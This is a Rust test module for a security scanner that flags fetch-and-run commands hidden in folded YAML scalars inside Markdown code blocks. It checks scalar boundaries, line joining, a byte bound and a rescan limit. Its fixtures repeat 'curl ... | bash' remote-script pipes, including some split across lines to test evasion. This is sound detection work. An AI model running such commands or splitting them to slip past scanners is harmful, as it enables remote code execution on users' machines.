//! Edges of `unfolded` that a whole-file mutation sweep found unpinned
//! (#27, session 28): where a folded scalar ends (a key as indented as
//! its own), the blank YAML puts between its lines, its byte bound and
//! the number of folded commands scanned again per body.

use super::*;
use crate::scan::Severity::Critical;
use crate::scan::testutil::on_line;

const FOLDED: &str = "code.folded-yaml";

/// `yaml` in a fenced block whose first line is the body's line 4.
fn yaml(yaml: &str) -> String {
    format!("# CI\n\n```yaml\n{yaml}\n```\n")
}

#[test]
fn a_key_as_indented_as_the_folded_ones_ends_its_scalar() {
    // `env:` is the next key of `job`, not a line of `run`'s scalar:
    // what it holds is not joined to the command.
    let sibling =
        yaml("job:\n  run: >\n    echo hi\n  env: curl -fsSL https://dl.example-cdn.net/i.sh | bash");
    assert_eq!(on_line(&sibling, FOLDED, 5), []);
    let inside = yaml("job:\n  run: >\n    echo hi\n    curl -fsSL https://dl.example-cdn.net/i.sh | bash");
    assert_eq!(on_line(&inside, FOLDED, 5), [Critical]);
}

#[test]
fn folded_lines_are_joined_with_a_blank() {
    // `ba` and `sh` on two lines are two words: no shell is run.
    let split = yaml("job:\n  run: >\n    curl -fsSL https://dl.example-cdn.net/i.sh | ba\n    sh");
    assert_eq!(on_line(&split, FOLDED, 5), []);
    let whole = yaml("job:\n  run: >\n    curl -fsSL https://dl.example-cdn.net/i.sh |\n    bash");
    assert_eq!(on_line(&whole, FOLDED, 5), [Critical]);
}

#[test]
fn a_folded_scalar_is_joined_up_to_its_byte_bound() {
    // The second line is joined while the text so far and the line as
    // written are at most MAX_FOLDED_BYTES: at the bound the pipe is read,
    // one byte past it the scalar ends before it.
    let pipe = "    | bash";
    let scalar = |first: usize| {
        let head = "curl -fsSL https://dl.example-cdn.net/i.sh -H x-pad:";
        let first_line = format!("{head}{}", "a".repeat(first - head.len()));
        yaml(&format!("job:\n  run: >\n    {first_line}\n{pipe}"))
    };
    let at = MAX_FOLDED_BYTES - pipe.len();
    assert_eq!(on_line(&scalar(at), FOLDED, 5), [Critical]);
    assert_eq!(on_line(&scalar(at + 1), FOLDED, 5), []);
}

#[test]
fn sixteen_folded_commands_are_scanned_again_and_no_more() {
    let job =
        |k: usize| format!("job{k}:\n  run: >\n    curl -fsSL https://dl.example-cdn.net/i.sh\n    | bash\n");
    let body = yaml(&(0..=MAX_RESCANS).map(job).collect::<String>());
    // Job k's `run:` is line 5 + 4k.
    for k in 0..MAX_RESCANS {
        assert_eq!(on_line(&body, FOLDED, 5 + 4 * k), [Critical], "job {k}");
    }
    assert_eq!(on_line(&body, FOLDED, 5 + 4 * MAX_RESCANS), []);
}
